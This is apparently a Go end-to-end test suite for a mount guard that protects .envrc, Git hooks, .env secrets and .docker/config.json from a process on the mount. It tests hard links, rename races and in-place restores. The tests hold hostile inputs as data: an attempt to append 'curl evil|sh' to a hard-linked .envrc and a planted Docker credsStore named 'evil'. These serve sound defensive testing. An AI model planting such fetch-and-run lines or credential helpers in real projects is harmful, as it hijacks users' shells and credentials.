package e2e

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// Issue 28: the guard judges by identity, and atomically.

// TestIdentityProtectHardLink (issue 28, case 4): a protected file the host
// hard-linked under an innocent name (.envrc as envrc.bak, a Git hook as
// hook.txt; before the mount, found by its scan, and after it) is
// protected under that name too: an append, a write open, truncate,
// chmod, setxattr and a link from it are refused, EACCES, audited
// PROTECTED_PATH_DENIED with rule protect:identity, and the protected file
// stays byte- and stat-identical. Reading it stays allowed. Before, the
// append through envrc.bak changed .envrc.
func TestIdentityProtectHardLink(t *testing.T) {
	t.Parallel()
	const envrc, hook = "export HOST=1\n", "#!/bin/sh\nexit 0\n"
	m := mount(t, Prepare(func(m *Mount) {
		writeFile(t, m.BackingPath(".envrc"), envrc)
		writeFile(t, m.BackingPath("repo", ".git", "hooks", "pre-commit"), hook)
		for from, to := range map[string]string{".envrc": "envrc.bak", "repo/.git/hooks/pre-commit": "repo/hook.txt"} {
			if err := os.Link(m.BackingPath(from), m.BackingPath(to)); err != nil {
				t.Fatal(err)
			}
		}
	}))
	// A link the host makes after the mount, to a file its scan saw.
	if err := os.Link(m.BackingPath(".envrc"), m.BackingPath("later.txt")); err != nil {
		t.Fatal(err)
	}
	before := map[string]metaState{
		".envrc":                     metaOf(t, m.BackingPath(".envrc")),
		"repo/.git/hooks/pre-commit": metaOf(t, m.BackingPath("repo", ".git", "hooks", "pre-commit")),
	}
	for _, rel := range []string{"envrc.bak", "repo/hook.txt", "later.txt"} {
		p := m.Path(rel)
		if out, err := runErr(t, m.Dir, nil, "sh", "-c", "echo 'curl evil|sh' >> "+rel); err == nil || !strings.Contains(out, "Permission denied") {
			t.Errorf("echo >> %s: %v %q; want Permission denied", rel, err, out)
		}
		for _, r := range []struct {
			route string
			do    func() error
		}{
			{"open O_WRONLY|O_APPEND", func() error { return closeFd(unix.Open(p, unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0)) }},
			{"open O_RDWR", func() error { return closeFd(unix.Open(p, unix.O_RDWR|unix.O_CLOEXEC, 0)) }},
			{"truncate", func() error { return unix.Truncate(p, 0) }},
			{"chmod", func() error { return unix.Chmod(p, 0o777) }},
			{"setxattr", func() error { return unix.Setxattr(p, "user.x", []byte("1"), 0) }},
			{"link from", func() error { return unix.Link(p, p+".again") }},
		} {
			wantErrno(t, r.do(), unix.EACCES, rel+": "+r.route)
		}
		assertAbsent(t, m.BackingPath(rel+".again"))
		want := envrc
		if rel == "repo/hook.txt" {
			want = hook
		}
		wantRead(t, p, want, "cat "+rel)
		e := m.WaitRefusal("open", rel, "PROTECTED_PATH_DENIED", unix.EACCES)
		if e.str("rule") != "protect:identity" {
			t.Errorf("audit of the open of %s: rule %q, want protect:identity", rel, e.str("rule"))
		}
	}
	for rel, st := range before {
		if after := metaOf(t, m.BackingPath(rel)); after != st {
			t.Errorf("%s changed in BACKING:\nbefore %+v\nafter  %+v", rel, st, after)
		}
	}
}

// plantRounds bounds each racing loop of TestIdentityPlantRace.
const plantRounds = 200

// TestIdentityPlantRace (issue 28, case 5): one thread loops a plant of
// dN/config.json (a link of a file, or a create) while another makes dN
// and renames it to .docker, for plantRounds rounds each: BACKING's
// .docker/config.json never holds what was planted (the rename is judged
// against what dN holds at that moment, and a plant after it is judged at
// its new place), and every refusal the loops met has its audit line (a
// created file's name is published at its close, which a rename of its
// directory in between refuses there: close(2) returns it).
// Before, the first rounds planted it (the link, or an empty create),
// with no audit line.
func TestIdentityPlantRace(t *testing.T) {
	t.Parallel()
	seed := uint64(time.Now().UnixNano())
	t.Logf("seed %d", seed)
	rng := rand.New(rand.NewPCG(seed, 0))
	const evil = `{"credsStore":"evil"}` + "\n"
	m := mount(t)
	writeFile(t, m.Path("evil.json"), evil)
	plants := []struct {
		name  string
		plant func(p string) error
	}{
		{"link", func(p string) error { return unix.Link(m.Path("evil.json"), p) }},
		// A create made while its directory is renamed to .docker is
		// refused where its close publishes it there: close(2) says so.
		{"create", func(p string) error {
			fd, err := unix.Open(p, unix.O_CREAT|unix.O_WRONLY|unix.O_CLOEXEC, 0o644)
			if err != nil {
				return err
			}
			return unix.Close(fd)
		}},
	}
	refused := 0
	for _, pl := range plants {
		t.Run(pl.name, func(t *testing.T) {
			for round := range plantRounds {
				refused += plantRound(t, m, rng, pl.plant, fmt.Sprintf("%s%d", pl.name, round))
				if t.Failed() {
					t.Fatalf("%s, round %d (seed %d)", pl.name, round, seed)
				}
			}
		})
	}
	// A refusal of a name of its own flushes the lines held as repeats.
	if err := unix.Symlink("/etc", m.Path("mark")); err != unix.EACCES {
		t.Fatalf("the closing refusal (an absolute symlink): %v, want EACCES", err)
	}
	m.WaitAudit("the closing refusal", func(e auditEntry) bool { return e.path() == "mark" })
	audited := 0
	for _, e := range m.Audit() {
		if e.str("code") == "PROTECTED_PATH_DENIED" && e.errnoIs(unix.EACCES) {
			n, _ := strconv.Atoi(e.str("repeat"))
			audited += max(n, 1)
		}
	}
	t.Logf("%d refusals in %d rounds, %d audited", refused, 2*plantRounds, audited)
	if audited != refused {
		t.Errorf("%d refusals met EACCES, the audit log has %d PROTECTED_PATH_DENIED (seed %d)", refused, audited, seed)
	}
}

// plantRound runs one round of TestIdentityPlantRace in directory d: a
// goroutine plants d/config.json until told to stop, while the test makes
// d and renames it to .docker. It checks BACKING, cleans up through the
// mount and returns how many of the round's calls were refused EACCES.
func plantRound(t *testing.T, m *Mount, rng *rand.Rand, plant func(p string) error, d string) int {
	t.Helper()
	var stop atomic.Bool
	started, done := make(chan struct{}), make(chan int)
	go func() {
		refused := 0
		for i := 0; !stop.Load(); i++ {
			err := plant(m.Path(d, "config.json"))
			if errors.Is(err, unix.EACCES) {
				refused++
			}
			if i == 0 {
				close(started)
			}
		}
		done <- refused
	}()
	<-started
	for range rng.IntN(8) { // a few requests' worth of jitter
		os.Lstat(m.Dir)
	}
	refused := 0
	if err := os.Mkdir(m.Path(d), 0o755); err != nil {
		t.Fatal(err)
	}
	err := os.Rename(m.Path(d), m.Path(".docker"))
	if errors.Is(err, unix.EACCES) {
		refused++
	} else if err != nil {
		t.Errorf("rename %s .docker: %v", d, err)
	}
	stop.Store(true)
	refused += <-done
	if _, err := os.Lstat(m.BackingPath(".docker", "config.json")); err == nil {
		t.Errorf("%s: BACKING/.docker/config.json was planted: %q", d, readFile(t, m.BackingPath(".docker", "config.json")))
	}
	for _, dir := range []string{d, ".docker"} {
		if err := os.RemoveAll(m.Path(dir)); err != nil {
			t.Fatalf("rm -r %s: %v", dir, err)
		}
	}
	return refused
}

// TestIdentityMadeRestore (issue 28, case 6): a process on the mount
// removes the host's .env and makes one of the same size through the
// mount with the old mtime; the host then restores its secret in place
// (cp -p: the same inode, the same size, the mtime set back). The file is
// the host's again: cat is refused, EACCES, CREDENTIAL_PATH_DENIED, and
// prints nothing of the secret. Before, size and mtime matched what the
// mount had left, and cat printed the secret.
func TestIdentityMadeRestore(t *testing.T) {
	t.Parallel()
	requireTool(t, "cp", "touch", "cat")
	const secret, mine = "TOKEN=host-secret-4711\n", "TOKEN=agent-made-00000\n"
	m := mount(t, Prepare(func(m *Mount) {
		writeFile(t, m.BackingPath(".env"), secret)
	}))
	st, err := os.Stat(m.Path(".env"))
	if err != nil {
		t.Fatal(err)
	}
	backup := filepath.Join(t.TempDir(), "secret")
	writeFile(t, backup, secret)
	if err := os.Chtimes(backup, st.ModTime(), st.ModTime()); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(m.Path(".env")); err != nil {
		t.Fatal(err)
	}
	writeFile(t, m.Path(".env"), mine)
	stamp := "@" + strconv.FormatInt(st.ModTime().Unix(), 10) + "." + fmt.Sprintf("%09d", st.ModTime().Nanosecond())
	run(t, m.Dir, nil, "touch", "-m", "-d", stamp, ".env")
	wantRead(t, m.Path(".env"), mine, "the .env made through the mount")

	ino := lstat(t, m.BackingPath(".env")).Ino
	run(t, "/", nil, "cp", "-p", backup, m.BackingPath(".env"))
	after := lstat(t, m.BackingPath(".env"))
	if after.Ino != ino || after.Size != int64(len(mine)) || after.Mtim != unix.NsecToTimespec(st.ModTime().UnixNano()) {
		t.Fatalf("cp -p did not restore in place with the made file's size and mtime: ino %d (was %d), size %d, mtime %v", after.Ino, ino, after.Size, after.Mtim)
	}
	wantReadRefused(t, m, ".env", "host-secret", "the host's secret restored in place with cp -p")
}

// TestIdentityMadeOwnChanges (issue 28, case 6): the mount's own changes to
// files it made at credential paths move their ctime, and each leaves them
// made: a cloned fixture key renamed (git mv), chmod-ed, linked under
// another credential name, appended to in place, given an xattr, its
// other name removed, still reads back, and git status works throughout.
func TestIdentityMadeOwnChanges(t *testing.T) {
	t.Parallel()
	requireTool(t, "git", "chmod", "ln")
	src := filepath.Join(t.TempDir(), "src")
	writeFile(t, filepath.Join(src, "certs", "server.key"), fixtureKey)
	run(t, src, plantEnv, "git", "init", "-q")
	run(t, src, plantEnv, "git", "add", "-A")
	run(t, src, plantEnv, "git", "commit", "-qm", "fixtures")

	m := mount(t)
	run(t, m.Dir, plantEnv, "git", "clone", "-q", src, "clone")
	c := m.Path("clone")
	if out := run(t, c, plantEnv, "git", "status", "--porcelain"); out != "" {
		t.Errorf("git status after clone: %q, want clean", out)
	}
	key := m.Path("clone", "certs", "moved.key")
	run(t, c, plantEnv, "git", "mv", "certs/server.key", "certs/moved.key")
	wantRead(t, key, fixtureKey, "after git mv")
	run(t, c, nil, "chmod", "600", "certs/moved.key")
	wantRead(t, key, fixtureKey, "after chmod")
	run(t, c, nil, "ln", "certs/moved.key", "certs/link.pem")
	wantRead(t, key, fixtureKey, "after ln")
	wantRead(t, m.Path("clone", "certs", "link.pem"), fixtureKey, "the new link")
	run(t, c, nil, "sh", "-c", "echo appended >> certs/moved.key")
	wantRead(t, key, fixtureKey+"appended\n", "after an append in place")
	if err := unix.Setxattr(key, "user.note", []byte("fixture"), 0); err != nil {
		t.Fatalf("setxattr: %v", err)
	}
	wantRead(t, key, fixtureKey+"appended\n", "after setxattr")
	if err := os.Remove(m.Path("clone", "certs", "link.pem")); err != nil {
		t.Fatal(err)
	}
	wantRead(t, key, fixtureKey+"appended\n", "after rm of its other name")
	if out := run(t, c, plantEnv, "git", "status", "--porcelain"); !strings.Contains(out, "moved.key") {
		t.Errorf("git status after the changes: %q", out)
	}
	run(t, c, plantEnv, "git", "commit", "-qam", "moved")
	wantRead(t, key, fixtureKey+"appended\n", "after git commit")
}
